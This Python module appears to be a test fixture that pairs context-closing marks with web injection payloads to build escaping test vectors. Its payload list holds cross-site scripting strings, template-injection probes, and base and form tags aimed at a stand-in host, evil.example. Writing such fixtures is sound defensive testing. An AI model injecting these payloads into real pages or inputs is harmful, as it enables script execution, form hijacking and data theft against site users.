"""Texts that would run, load or break out of where they stand, if they were ever taken for anything but text."""

from __future__ import annotations

import itertools

#: What may close the place that a text stands in.
MARKS = (
    "",
    "'",
    '"',
    "`",
    "-->",
    "</textarea>",
    "</title>",
    "</style>",
    "</template>",
    "</script>",
    "]]>",
    "\x00",
    "\u2028",
)
PAYLOADS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    " autofocus onfocus=alert(1) ", "<a href=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>", "<form action=//evil.example>", "{{ 7 * 7 }}", "{% include 'page.html' %}",
    "${7*7}", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "javascript:alert(1)",
    "＜script＞alert(1)＜/script＞", "<math><mtext><style><img title='--><img src=x onerror=alert(1)>'>",
    "https://x.example/\"onmouseover=alert(1)", "http://<script>alert(1)</script>", "<!--", "<![CDATA[", "<plaintext>",
)  # fmt: skip
VECTORS = ["".join(pair) for pair in itertools.product(MARKS, PAYLOADS)]
